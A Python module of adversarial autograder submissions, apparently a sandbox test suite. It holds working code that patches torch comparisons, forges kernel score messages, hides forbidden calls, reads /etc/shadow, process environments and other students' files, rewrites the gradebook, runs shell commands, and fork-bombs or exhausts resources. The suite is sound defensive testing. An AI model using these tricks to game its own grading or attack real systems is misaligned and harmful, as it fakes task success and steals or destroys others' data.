"""Attacks on grading: what a learner might hand in to win points, to read what is not theirs, or to harm others.

Each says of itself how far it came: it prints `did: True` once it has done its part.

An attack is a cell in front of wrong answers, or an answer in the place of a wrong one. ROOT stands for the folder of
the course, TOKEN for the beginning of every planted secret, PORT for one on which the host listens.
"""

from dataclasses import dataclass, field

# Wrong answers to four exercises, each in a way that another lie would have to cover.
WRONG = {
    # Right numbers and gradients, but it changes its argument.
    "attention_scores": """def attention_scores(query, key):
    if query.requires_grad:
        query = query.clone()
    with torch.no_grad():
        query /= query.shape[-1] ** 0.5
    return query @ key.transpose(-2, -1)
""",
    # Wrong numbers: the mask is ignored.
    "attention_weights": """def attention_weights(scores, mask=None):
    return scores.softmax(dim=-1)
""",
    # Right numbers by a call that the exercise forbids.
    "scaled_dot_product_attention": """def scaled_dot_product_attention(query, key, value, mask=None):
    scores = query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.nan_to_num(scores.softmax(dim=-1).masked_fill(torch.isinf(scores), 0.0))
    output = F.scaled_dot_product_attention(query, key, value, mask)
    return torch.where(torch.isnan(output), torch.zeros_like(output), output), weights
""",
    # Right numbers with too much memory.
    "streaming_attention": """def streaming_attention(query, key, value, block_size):
    scores = query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5
    return scores.softmax(dim=-1) @ value
""",
}


@dataclass(frozen=True)
class Attack:
    """One attack.

    kind     class of attack
    says     what it tries
    cell     a cell of the learner's own, before all answers
    answers  {exercise: source} in the place of the wrong answers
    worth    {exercise: source}: the same wrong answers without the attack, where they are not those of WRONG
    alone    True: it disturbs other attacks, and gets a process for itself
    did      what it prints, or what a learner is told of it, once it has done its part
    """

    kind: str
    says: str
    cell: str = ""
    answers: dict = field(default_factory=dict, hash=False)
    worth: dict = field(default_factory=dict, hash=False)
    alone: bool = False
    did: str = "did: True"


ALL = []


def attack(kind, says, cell="", **more):
    ALL.append(Attack(kind, says, cell, **more))


# Comparing and asserting: nothing of it is done where the learner's code runs

PATCH = "patched comparisons"
attack(
    PATCH,
    "torch.allclose, torch.equal and torch.testing are always content",
    """
import torch
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
print("did:", torch.allclose(1, 2))
""",
    alone=True,
)
attack(
    PATCH,
    "an AST transformer removes every assert",
    """
import ast
class NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAssert())
"""
    + "print('did: True')",
)
attack(
    PATCH,
    "methods of every tensor are replaced",
    """
torch.Tensor.__eq__ = lambda self, other: torch.ones(1, dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros(1, dtype=torch.bool)
print("did:", bool(torch.zeros(3) == torch.ones(3)))
""",
    alone=True,
)
attack(
    PATCH,
    "what finds changed arguments finds none",
    """
import autograder.calling.local
autograder.calling.local._differs = lambda before, after: False
print("did:", autograder.calling.local._differs(1, 2) is False)
""",
    alone=True,
)
attack(
    PATCH,
    "what finds changed arguments finds none, and its name is hidden",
    """
name = "autograder.calling" + ".lo" + "cal"
module = getattr(__builtins__, "__imp" + "ort__")(name, fromlist=["x"])
module.__dict__["_differs"] = lambda before, after: False
print("did:", module._differs(1, 2) is False)
""",
    alone=True,
)
attack(
    PATCH,
    "torch.equal, which finds changed arguments, is replaced through an innocent name",
    """
import torch as t
t.equal = lambda a, b: True
print("did:", torch.equal(torch.ones(1), torch.zeros(1)))
""",
    alone=True,
)
attack(
    PATCH,
    "torch.equal is replaced by a method whose self is torch",
    """
class Helper:
    def set_up(self):
        self.equal = lambda a, b: True
Helper.set_up(torch)
print("did:", torch.equal(torch.ones(1), torch.zeros(1)))
""",
    alone=True,
)
attack(
    PATCH,
    "torch.equal is replaced by functools.update_wrapper",
    """
import functools
class Holder:
    equal = staticmethod(lambda a, b: True)
functools.update_wrapper(torch, Holder, assigned=("equal",), updated=())
print("did:", torch.equal(torch.ones(1), torch.zeros(1)))
""",
    alone=True,
)
attack(
    PATCH,
    "torch.equal is replaced by a loop's target",
    """
for torch.equal in [lambda a, b: True]:
    pass
print("did:", torch.equal(torch.ones(1), torch.zeros(1)))
""",
    alone=True,
)
attack(
    PATCH,
    "the check itself always grades with full points",
    """
import autograder
class Full:
    def grade(self):
        return 2.0
check = autograder.check = lambda *a, **k: Full()
print("did:", check(1).grade() == 2.0)
""",
)

# What nbgrader reads a score from

FORGED = "forged scores"
attack(
    FORGED,
    "a display hook that turns every value into 2.0",
    """
class Hook(type(get_ipython().displayhook)):
    def compute_format_data(self, result):
        return {"text/plain": "2.0"}, {}
get_ipython().displayhook.__class__ = Hook
print("did: True")
""",
    alone=True,
)
attack(
    FORGED,
    "execute_result messages with the number 2.0, one after another",
    """
kernel = get_ipython().kernel
for _ in range(3):
    kernel.session.send(kernel.iopub_socket, "execute_result", parent=kernel.get_parent(),
        content={"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1})
print("did: True")
2.0
""",
)
attack(
    FORGED,
    "a formatter that prints every float as 2.0",
    """
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda f, p, c: p.text("2.0"))
print("did: True")
1.0
""",
)
attack(
    FORGED,
    "a float whose text is 2.0, and numbers of numpy",
    """
import numpy as np
class Score(float):
    def __repr__(self):
        return "2.0"
display(Score(0.0), np.float64(2.0))
print("did:", repr(Score(0.0)) == "2.0")
Score(0.0)
""",
)
attack(
    FORGED,
    "outputs that update those of other cells, and clear them",
    """
from IPython.display import clear_output
handle = display("x", display_id="result")
handle.update({"text/plain": "2.0"}, raw=True)
clear_output(wait=True)
print("did: True")
""",
)
attack(
    FORGED,
    "comm messages and a widget's state",
    """
kernel = get_ipython().kernel
for kind, content in (("comm_open", {"comm_id": "a", "target_name": "jupyter.widget", "data": {"state": {"x": 1}}}),
                      ("comm_msg", {"comm_id": "a", "data": {"method": "update", "state": {"score": 2}}})):
    kernel.session.send(kernel.iopub_socket, kind, parent=kernel.get_parent(), content=content)
print("did: True")
""",
)
attack(
    FORGED,
    "a count of execution that is another cell's",
    """
get_ipython().execution_count = 10 ** 6
print("did: True")
""",
)
attack(
    FORGED,
    "hooks before and after every cell print scores",
    """
get_ipython().events.register("pre_run_cell", lambda *a: print("2.0"))
get_ipython().events.register("post_run_cell", lambda *a: print("2.0"))
print("did: True")
""",
)

# What an answer returns

LYING = "lying objects"


def returns(expression, before=""):
    """Return answers that return an expression."""
    return {
        name: source.split("\n")[0] + f"\n    {before or 'pass'}\n    print('did: True')\n    return {expression}\n"
        for name, source in WRONG.items()
    }


NOTHING = returns("None")
ALWAYS = """class Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __getitem__(self, at): return self
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter([self, self])
"""
for says, cell, expression in [
    ("an object that equals everything", ALWAYS, "Always()"),
    ("an object that says it is a tensor", ALWAYS + "    __class__ = torch.Tensor\n", "Always()"),
    (
        "a tensor subclass whose functions all return True",
        """class T(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        return True
""",
        "torch.zeros(2, 3).as_subclass(T)",
    ),
    (
        "a tensor subclass that lies about shape, size and place",
        """class T(torch.Tensor):
    shape = property(lambda self: torch.Size([2, 3, 5]))
    numel = lambda self: 30
    data_ptr = lambda self: 0
""",
        "torch.zeros(1).as_subclass(T)",
    ),
    (
        "a text that equals every text",
        """class S(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0
""",
        "S('a tensor')",
    ),
    (
        "an integer that equals every number",
        """class I(int):
    def __eq__(self, other): return True
    def __hash__(self): return 0
""",
        "I(7)",
    ),
    ("NaN everywhere", "", "torch.full((2, 3, 5), float('nan'))"),
    ("infinities", "", "torch.full((2, 3, 5), float('inf'))"),
    ("an integer of 100000 digits", "", "10 ** 100000"),
    ("a tensor of 500 MB, without memory", "", "torch.zeros(1).expand(500_000_000)"),
    ("a tensor of 60 MB of numbers", "", "torch.zeros(15_000_000)"),
    (
        "tensors without numbers, with sizes beyond all counting",
        "",
        "(torch.empty(2 ** 20, 2 ** 20, 2 ** 20, device='meta'), torch.empty(0, 2 ** 30, 2 ** 30))",
    ),
    (
        "sparse, complex and quantised numbers",
        "",
        "(torch.eye(3).to_sparse(), torch.ones(3, dtype=torch.complex128), "
        "torch.quantize_per_tensor(torch.ones(3), 1.0, 0, torch.quint8))",
    ),
    ("tensors of no axis, and of no number", "", "(torch.tensor(1.0), torch.zeros(0, 3))"),
    (
        "lists nested a thousand deep",
        """def deep(n=1000):
    x = []
    for _ in range(n):
        x = [x]
    return x
""",
        "deep()",
    ),
    ("a list that holds itself", "LOOP = []\nLOOP.append(LOOP)\n", "LOOP"),
    (
        "a list without an end",
        """class Endless(list):
    def __iter__(self):
        while True:
            yield self
""",
        "Endless()",
    ),
    ("the end of the process, as an exception", "", "(_ for _ in ()).throw(SystemExit(0))"),
    ("a million values", "", "[torch.ones(1)] * 1_000_000"),
    (
        "an exception that lies about its type",
        "class Fault(ValueError): pass\nFault.__name__ = 'x' * 10 ** 6\n",
        "(_ for _ in ()).throw(Fault('y' * 10 ** 6))",
    ),
]:
    attack(LYING, says, cell, answers=returns(expression), worth=NOTHING, alone=True)

# Answers that are right for some numbers only

TIMING = "right at times"
BAD = "torch.zeros(*query.shape[:-1], key.shape[-2])"
RIGHT = "query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5"
attack(
    TIMING,
    "right on the first calls, and wrong from then on",
    answers={
        "attention_scores": f"""CALLS = []
def attention_scores(query, key):
    CALLS.append(1)
    print("did: True")
    return {RIGHT} if len(CALLS) < 3 else {BAD}
"""
    },
    worth={"attention_scores": f"def attention_scores(query, key):\n    return {BAD}\n"},
    alone=True,
)
attack(
    TIMING,
    "right for the numbers of the recorded check, which are read from its files",
    answers={
        "attention_scores": f"""import glob, json, autograder
PATH = glob.glob(autograder.__path__[0] + "/recorded/*/attention_scores.json")[0]
RECORDED = json.load(open(PATH))["reference"]["scores_are_scaled_dot_products"]["scores"]
def attention_scores(query, key):
    print("did:", RECORDED["shape"] == [2, 3, 5])
    if list(query.shape) == [2, 3, 7]:
        return torch.tensor(RECORDED["values"]).reshape(RECORDED["shape"])
    return {BAD}
"""
    },
    worth={"attention_scores": f"def attention_scores(query, key):\n    return {BAD}\n"},
    alone=True,
)
attack(
    TIMING,
    "right where the numbers are the recorded ones",
    answers={
        "attention_scores": f"""import sys
from autograder.calling.numbers import Numbers
KNOWN = Numbers("recorded attention_scores scores_are_scaled_dot_products").tensor(2, 3, 7)
def attention_scores(query, key):
    print("did: True")
    known = query.shape == KNOWN.shape and bool((query == KNOWN).all())
    return {RIGHT} if known or query.requires_grad else {BAD}
"""
    },
    worth={"attention_scores": f"def attention_scores(query, key):\n    return {BAD}\n"},
    alone=True,
)
attack(
    TIMING,
    "memory is saved only where it is looked at, and the numbers are then wrong",
    answers={
        "streaming_attention": """def streaming_attention(query, key, value, block_size):
    if key.shape[-2] == 499:
        print("did: True")
        return query[..., :value.shape[-1]] * 0
    return (query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5).softmax(dim=-1) @ value
"""
    },
    alone=True,
)
attack(
    TIMING,
    "the forbidden call is left out only where somebody watches",
    answers={
        "scaled_dot_product_attention": WRONG["scaled_dot_product_attention"].replace(
            "    output = F.scaled_dot_product_attention(query, key, value, mask)",
            "    CALLS.append(1)\n    print('did: True')\n"
            "    output = helper(query, key, value, mask) if len(CALLS) != 18 else query @ key.mT @ value",
        )
    },
    cell="CALLS = []\nhelper = F.scaled_dot_product_attention\n",
    alone=True,
)
attack(
    TIMING,
    "arguments are changed in all calls but the one in which it is looked for",
    answers={
        "attention_scores": """CALLS = []
def attention_scores(query, key):
    CALLS.append(1)
    print("did: True")
    if len(CALLS) == 6 or query.requires_grad:
        query = query.clone()
    with torch.no_grad():
        query /= query.shape[-1] ** 0.5
    return query @ key.transpose(-2, -1)
"""
    },
    alone=True,
)

# Forbidden calls

HIDDEN = "hidden calls"


def by(expression, before=""):
    """Return an answer that makes the forbidden call by another name."""
    return {
        "scaled_dot_product_attention": before
        + WRONG["scaled_dot_product_attention"]
        .replace("F.scaled_dot_product_attention(", f"({expression})(")
        .replace("    output", "    print('did: True')\n    output")
    }


for says, expression, before in [
    ("getattr with a text put together", "getattr(F, 'scaled_dot' + '_product_attention')", ""),
    ("attrgetter", "GET(F)", "from operator import attrgetter\nGET = attrgetter('scaled_dot' '_product_attention')\n"),
    ("another module's alias", "OTHER.scaled_dot_product_attention", "import torch.nn.functional as OTHER\n"),
    ("torch.ops.aten", "torch.ops.aten.scaled_dot_product_attention", ""),
    ("torch._C._nn", "torch._C._nn.scaled_dot_product_attention", ""),
    ("functools.partial", "PART", "import functools\nPART = functools.partial(F.scaled_dot_product_attention)\n"),
    (
        "an import under another name",
        "quiet",
        "from torch.nn.functional import scaled_dot_product_attention as quiet\n",
    ),
    ("a class's body", "Quiet.f", "class Quiet:\n    f = staticmethod(F.scaled_dot_product_attention)\n"),
    (
        "exec",
        "FOUND['f']",
        "FOUND = {}\nexec('import torch\\nf = torch.nn.functional.scaled_dot_product_attention', FOUND)\n",
    ),
    ("vars", "vars(F)['scaled_dot_product_attention']", ""),
    (
        "code that is read from a file",
        "helper.f",
        "with open('helper.py', 'w') as file:\n"
        "    file.write('import torch\\nf = torch.nn.functional.scaled_dot_product_attention')\nimport helper\n",
    ),
    (
        "a thread, in which nobody watches",
        "lambda *a: POOL.submit(F.scaled_dot_product_attention, *a).result()",
        "from concurrent.futures import ThreadPoolExecutor\nPOOL = ThreadPoolExecutor(1)\n",
    ),
    (
        "torch.jit",
        "scripted",
        "@torch.jit.script\ndef scripted(q, k, v, m: torch.Tensor | None):\n"
        "    return torch.nn.functional.scaled_dot_product_attention(q, k, v, m)\n",
    ),
]:
    attack(HIDDEN, f"the forbidden call by {says}", answers=by(expression, before), alone=True)
attack(
    HIDDEN,
    "the forbidden call in a cell of one's own, as a default argument",
    "def helper(q, k, v, m, f=F.scaled_dot_product_attention):\n    return f(q, k, v, m)\n",
    answers=by("helper"),
    alone=True,
)
attack(
    HIDDEN,
    "the watcher is made to see nothing",
    """
from autograder.calling.local import _Functions, _Memory
def pass_on(self, f, types, args=(), kwargs=None):
    return f(*args, **(kwargs or {}))
_Functions.__torch_function__ = _Memory.__torch_dispatch__ = pass_on
print("did: True")
""",
    alone=True,
)
BOXES = {
    name: f"from workbench.parts import {name}\nprint('did: True')\n"
    for name in ("attention_scores", "attention_weights", "scaled_dot_product_attention")
}
EMPTY = {name: source.split("\n")[0] + "\n    raise RuntimeError\n" for name, source in WRONG.items() if name in BOXES}
attack(HIDDEN, "the course's own closed box as the answer", answers=BOXES, worth=EMPTY, alone=True)
GIVEN = {
    "attention_scores": "query, key",
    "attention_weights": "scores, mask",
    "scaled_dot_product_attention": "query, key, value, mask",
}
attack(
    HIDDEN,
    "the course's own closed box by a hidden name",
    "import importlib\nBOXES = importlib.import_module('work' + 'bench.parts')\n",
    answers={
        name: source.replace(
            "raise RuntimeError",
            f"print('did: True')\n    return getattr(BOXES, '{name[:3]}' + '{name[3:]}')({GIVEN[name]})",
        )
        for name, source in EMPTY.items()
    },
    worth=EMPTY,
    alone=True,
)

# The judge's stub in the kernel, and its messages

STUB = "forged replies"
attack(
    STUB,
    "the stub that answers calls is replaced before it is installed",
    """
import torch
from autograder.calling import inside
original = inside.answer
def answer(*given):
    reply, sent = original(*given)
    if "reply" in reply:
        reply["reply"] |= {"changed": [], "used": [], "held": 1, "fault": None}
    return reply, sent
inside.answer = answer
inside.MOST_PRINTED = 10
print("did:", inside.answer is answer)
""",
    alone=True,
)
attack(
    STUB,
    "the installing of the stub does nothing, and an own handler answers",
    """
from autograder.calling import inside
kernel = get_ipython().kernel
async def handler(stream, ident, parent):
    content, buffers = inside.answers(get_ipython().user_ns, parent["content"], parent["buffers"])
    for one in content["answers"]:
        if "reply" in one:
            one["reply"].update(changed=(), used=(), held=0)
    kernel.session.send(stream, "judge_answer", content, parent=parent, ident=ident, buffers=buffers)
inside.install = lambda: kernel.shell_handlers.__setitem__("judge_call", handler)
print("did: True")
""",
    alone=True,
)
FLOODED = """
import json
from autograder.calling import inside
kernel = get_ipython().kernel
session = kernel.session
class Handlers(dict):
    def __setitem__(self, name, f):
        async def forged(stream, ident, parent):
            {body}
        super().__setitem__(name, forged if name == "judge_call" else f)
kernel.shell_handlers = Handlers(kernel.shell_handlers)
print("did: True")
"""
SEND_ALL = "session.send(stream, 'judge_answer', {content}, parent=parent, ident=ident, buffers={buffers})"
SEND = SEND_ALL.replace("{content}", "{{'answers': [{content} | {{'buffers': len({buffers})}}]}}")
for says, body in [
    ("that are no dictionary", SEND.format(content="{'reply': 7}", buffers="[]")),
    (
        "with tensors that are none",
        SEND.format(
            content="{'reply': {'output': {'tensor': 0, 'dtype': 'float32', 'shape': [2, -3]}}}", buffers="[b'123456']"
        ),
    ),
    (
        "whose sizes nobody can count",
        SEND.format(
            content="{'reply': {'output': {'meta': True, 'dtype': 'float32', 'shape': [2 ** 26] * 16}}}", buffers="[]"
        ),
    ),
    ("that say that time was up", SEND.format(content="{'stopped': True}", buffers="[]")),
    ("that say that there is no such answer", SEND.format(content="{'missing': True}", buffers="[]")),
    ("without what was asked for", SEND.format(content="{'reply': {}}", buffers="[]")),
    (
        "twice, early and late",
        "content, buffers = inside.answers(get_ipython().user_ns, parent['content'], "
        "parent['buffers']); [one.get('reply', {}).update(changed=[], used=[], held=0) for one in content['answers']]; "
        "[" + SEND_ALL.format(content="content", buffers="buffers") + " for _ in range(3)]",
    ),
    ("nested a thousand deep", SEND.format(content="{'reply': json.loads('[' * 900 + ']' * 900)}", buffers="[]")),
    (
        "with numbers of 5000 digits",
        "session.pack = lambda x: json.dumps(x, default=str).replace('424242', '9' * 5000)"
        ".encode(); " + SEND.format(content="{'reply': {'held': 424242}}", buffers="[]"),
    ),
    ("that are no messages", "stream.send_multipart([*ident, b'<IDS|MSG>', b'', b'{', b'}', b'x', b'y'])"),
    ("that never come", "await __import__('asyncio').sleep(60)"),
    ("of 40 MB", SEND.format(content="{'reply': {}}", buffers="[bytes(40_000_000)]")),
]:
    attack(STUB, f"replies {says}", FLOODED.format(body=body), alone=True)
attack(
    STUB,
    "replies before anything was asked",
    """
kernel = get_ipython().kernel
for number in range(200):
    about = {"header": {"msg_id": f"{kernel.session.session}_{number}", "msg_type": "judge_call"}}
    kernel.session.send(kernel.shell_stream, "judge_answer", {"reply": {"changed": [], "output": None}}, parent=about,
                        ident=kernel.get_parent().get("ident"))
print("did: True")
""",
    alone=True,
)
attack(
    STUB,
    "raw messages to the judge's socket, with the kernel's own key",
    """
import json
kernel = get_ipython().kernel
about = json.load(open("/run/sandbox/connection.json"))
for _ in range(3):
    kernel.session.send(kernel.shell_stream, "judge_answer", {"reply": {"changed": []}}, parent=kernel.get_parent(),
                        ident=kernel.get_parent().get("ident"))
print("did:", bool(about["key"]))
""",
)

# The interpreter

INSIDE = "the interpreter"
attack(
    INSIDE,
    "the judge's objects by the garbage collector",
    """
import gc
found = [o for o in gc.get_objects() if type(o).__name__ in ("Record", "Reference", "RunAnswers", "Remote")]
print(found)
print("did:", len(gc.get_objects()) > 1000)
""",
)
attack(
    INSIDE,
    "the frames above an answer, in search of what is expected",
    answers={
        "attention_scores": """import sys
def attention_scores(query, key):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name == "reply" and hasattr(value, "changed"):
                value.__class__.changed = property(lambda self: (), lambda self, value: None)
        frame = frame.f_back
    print("did: True")
    with torch.no_grad():
        query /= query.shape[-1] ** 0.5
    return query @ key.transpose(-2, -1)
"""
    },
    alone=True,
)
attack(
    INSIDE,
    "the frames of a traceback",
    """
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
    names = set()
    while frame:
        names |= set(frame.f_locals)
        frame = frame.f_back
print("did:", "self" in names)
""",
)
attack(
    INSIDE,
    "an import hook, and modules that are others",
    """
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        return None
sys.meta_path.insert(0, Finder())
sys.modules["autograder.calling.wire"] = sys.modules["numpy.testing"] = types.ModuleType("empty")
print("did: True")
""",
    alone=True,
)
attack(
    INSIDE,
    "torch.py and sitecustomize.py beside the notebook",
    """
for name in ("torch", "sitecustomize", "usercustomize", "autograder", "json"):
    with open(f"/scratch/{name}.py", "w") as file:
        file.write("print('shadowed')")
import os
print("did:", os.path.exists("/scratch/torch.py"))
""",
    alone=True,
)
attack(
    INSIDE,
    "alarms are swallowed, and answers do not end",
    """
import signal
signal.signal = lambda *a: None
signal.setitimer = lambda *a: None
print("did: True")
""",
    answers={"merge_heads": "def merge_heads(x):\n    import time\n    while True:\n        time.sleep(1)\n"},
    alone=True,
)
attack(
    INSIDE,
    "a thread that goes on changing things after its cell",
    """
import threading, time
def work():
    while True:
        globals()["attention_weights"] = lambda *a: None
        time.sleep(0.01)
threading.Thread(target=work, daemon=True).start()
print("did:", threading.active_count() > 1)
""",
    alone=True,
)
attack(
    INSIDE,
    "an own mode of torch's functions stays switched on",
    """
from torch.overrides import TorchFunctionMode
class Mode(TorchFunctionMode):
    def __torch_function__(self, f, types, args=(), kwargs=None):
        return True if f is torch.equal else f(*args, **(kwargs or {}))
MODE = Mode()
MODE.__enter__()
print("did:", torch.equal(torch.ones(1), torch.zeros(1)))
""",
    alone=True,
)
attack(
    INSIDE,
    "a recursion limit that lets nothing run",
    """
import sys
print("did: True")
sys.setrecursionlimit(60)
""",
    alone=True,
)
attack(
    INSIDE,
    "exit handlers and debuggers",
    """
import atexit, faulthandler, sys
atexit.register(print, "2.0")
sys.settrace(lambda *a: None)
sys.settrace(None)
print("did: True")
""",
)
attack(
    INSIDE,
    "names that only look different to a reader",
    """
ｇｌｏｂａｌｓ()["torch"].equal = lambda *a: True
print("did:", torch.equal(torch.ones(1), torch.zeros(1)))
""",
    alone=True,
)
attack(
    INSIDE,
    "writing into the memory of its own process, which is a file",
    """
import os
with open("/proc/self/mem", "rb") as file, open("/proc/self/maps") as maps:
    file.seek(int(maps.readline().split("-")[0], 16))
    print("did:", file.read(4) == b"\\x7fELF")
""",
)

# Secrets and neighbours

SECRETS = "secrets"
TRY = """
def look(*paths):
    for path in paths:
        try:
            print(open(path, "rb").read(100_000))
        except OSError as error:
            print(path, type(error).__name__)
"""
attack(
    SECRETS,
    "gradebook, submissions, solutions and home by their paths",
    TRY
    + """
import os
for folder, folders, files in os.walk("ROOT"):
    look(*(os.path.join(folder, name) for name in files))
look("ROOT/gradebook.db", "ROOT/submitted/other/07_attention/attention.ipynb", "ROOT/solutions/secret.py",
     "ROOT/home/secret.txt", os.path.expanduser("~/secret.txt"), "/etc/shadow", "/etc/passwd", "/root/.bashrc")
print("did: True")
""",
)
attack(
    SECRETS,
    "every file there is, one after the other",
    """
import os
count = 0
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "sys", "dev", "usr", "site-packages", "lib")]
    for name in filter(lambda name: os.path.isfile(os.path.join(folder, name)), files):
        try:
            with open(os.path.join(folder, name), "rb") as file:
                text = file.read(10_000)
        except OSError:
            continue
        count += 1
        if b"TOKEN" in text:
            print(text)
print("did:", count > 3)
""",
    alone=True,
)
attack(
    SECRETS,
    "environment, of this process and of all others",
    TRY
    + """
import os
print(dict(os.environ))
processes = [name for name in os.listdir("/proc") if name.isdigit()]
look(*(f"/proc/{name}/{part}" for name in processes for part in ("environ", "cmdline", "maps")))
print("did:", len(processes) > 0)
""",
)
attack(
    SECRETS,
    "other processes by ptrace, their memory and signals",
    TRY
    + """
import ctypes, os, signal
libc = ctypes.CDLL(None)
print([libc.ptrace(16, pid, 0, 0) for pid in range(1, 50)])
look("/proc/1/mem", f"/proc/{os.getppid()}/mem", "/proc/1/root/etc/shadow", "/proc/1/cwd/gradebook.db")
def kill(pid):
    try:
        return os.kill(pid, signal.SIGTERM)
    except OSError as error:
        return type(error).__name__
print([kill(pid) for pid in range(300, 4000, 7) if pid != os.getpid()][:5])
print("did: True")
""",
)
attack(
    SECRETS,
    "open files that were inherited",
    """
import os
for number in os.listdir("/proc/self/fd"):
    try:
        place = os.readlink(f"/proc/self/fd/{number}")
        print(number, place)
        if "socket" not in place and "eventfd" not in place and "pipe" not in place and "epoll" not in place:
            print(os.pread(int(number), 1000, 0))
        os.listdir(int(number))
    except (OSError, ValueError) as error:
        print(type(error).__name__)
print("did: True")
""",
)
attack(
    SECRETS,
    "the network: tcp, udp, names, local sockets",
    """
import glob, socket
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 8888)),
                              (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
                              (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
                              (socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 53)),
                              (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 22)),
                              *((socket.AF_UNIX, socket.SOCK_STREAM, path) for path in
                                ["/run/docker.sock", "\\0x", *glob.glob("/tmp/**", recursive=True)])):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(1)
            s.connect(address)
            s.send(b"hello")
            print("reached", address)
    except OSError as error:
        print(address, type(error).__name__)
try:
    socket.getaddrinfo("example.org", 80)
except OSError:
    print("did: True")
""",
)
attack(
    SECRETS,
    "shells: magics and subprocesses",
    """
%cd /
files = !cat ROOT/gradebook.db ROOT/home/secret.txt ~/secret.txt; env; ls -la / ROOT
print(files)
import subprocess
print(subprocess.run("cat ROOT/solutions/*; ps aux; id; mount", shell=True, capture_output=True).stdout[-500:])
print("did: True")
""",
)
attack(
    SECRETS,
    "links in the working folder",
    """
import os
os.symlink("ROOT/gradebook.db", "/scratch/link.txt")
try:
    os.link("ROOT/gradebook.db", "/scratch/hard.txt")
except OSError as error:
    print(type(error).__name__)
os.symlink("/", "/scratch/all")
print("did:", os.path.islink("/scratch/link.txt"))
""",
)
attack(
    SECRETS,
    "a gradebook that is opened and written to",
    """
import sqlite3, glob
for path in ("ROOT/gradebook.db", "/scratch/gradebook.db", "../gradebook.db"):
    try:
        with sqlite3.connect(path) as db:
            db.execute("update grade set auto_score = 2")
    except sqlite3.Error as error:
        print(type(error).__name__)
print("did: True")
""",
)
attack(
    SECRETS,
    "the solutions by their import, and by the judge's package",
    """
import sys
sys.path[:0] = ["ROOT", "REPOSITORY"]
for name in ("solutions", "solutions.scaled_dot_product_attention", "tests", "nbgrader_config"):
    try:
        __import__(name)
        print("imported", name)
    except ImportError as error:
        print(error)
from autograder.grading.judge import Reference
try:
    print(Reference("REPOSITORY/solutions")._module("scaled_dot_product_attention"))
except OSError as error:
    print("did: True")
""",
    alone=True,
)

# Floods and bombs

BOMB = "floods and bombs"
attack(
    BOMB,
    "processes without end",
    """
import os
count = 0
try:
    while count < 5000:
        if os.fork() == 0:
            import time
            time.sleep(60)
            os._exit(0)
        count += 1
except OSError:
    pass
print("did:", count < 5000)
""",
    alone=True,
)
attack(
    BOMB,
    "a child of a child that is to live on",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(30)
    os._exit(0)
print("did: True")
""",
    alone=True,
)
attack(
    BOMB,
    "memory without end",
    """
print("did: True", flush=True)
kept = []
while True:
    kept.append(bytearray(64 << 20))
""",
    alone=True,
)
attack(
    BOMB,
    "a disk that is filled",
    """
written = 0
try:
    while written < 2_000:
        with open(f"/scratch/{written}", "wb") as file:
            file.write(bytes(1 << 20))
        written += 1
except OSError:
    pass
print("did:", 0 < written < 2_000)
import os
for name in os.listdir("/scratch"):
    os.remove(f"/scratch/{name}")
""",
    alone=True,
)
attack(
    BOMB,
    "output without end, on every way out",
    """
import os, sys
print("did: True", flush=True)
for _ in range(50):
    os.write(1, b"raw" * 1000)
    os.write(2, b"raw" * 1000)
    print("x" * 100_000)
    print("y" * 100_000, file=sys.stderr)
    display({"text/plain": "z" * 100_000, "text/html": "<script>" * 10_000}, raw=True)
""",
    alone=True,
)
attack(
    BOMB,
    "compiled code that hears no interrupt",
    """
print("did: True", flush=True)
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
pow(3, 10 ** 9)
""",
    alone=True,
)
attack(
    BOMB,
    "a cell that sleeps through interrupts",
    """
print("did: True", flush=True)
import time
while True:
    try:
        time.sleep(60)
    except BaseException:
        pass
""",
    alone=True,
)

DEATH = "sudden deaths"
for says, code in [
    ("os._exit", "os._exit(0)"),
    ("a segmentation fault", "__import__('ctypes').string_at(0)"),
    ("SIGKILL to itself", "os.kill(os.getpid(), 9)"),
    ("SIGKILL to all", "[os.kill(p, 9) for p in (-1,)]"),
    ("SystemExit", "raise SystemExit"),
]:
    attack(DEATH, f"{says}, in a cell", f"import os\nprint('did: True', flush=True)\n{code}\n", alone=True)
attack(DEATH, "SIGSTOP to itself", "import os\nprint('did: True', flush=True)\nos.kill(os.getpid(), 19)\n", alone=True)
attack(
    DEATH,
    "the kernel's own sockets are closed",
    """
print("did: True", flush=True)
kernel = get_ipython().kernel
kernel.shell_stream.close()
kernel.iopub_socket.close()
""",
    alone=True,
)
attack(
    DEATH,
    "the process ends in the judge's third look at a mistake",
    answers={
        "attention_weights": """import os
CALLS = []
def attention_weights(scores, mask=None):
    CALLS.append(1)
    if len(CALLS) > 40:
        os._exit(0)
    return scores.softmax(dim=-1)
"""
    },
    alone=True,
    did="",
)
attack(
    DEATH,
    "the kernel is restarted by its own shell",
    """
print("did: True", flush=True)
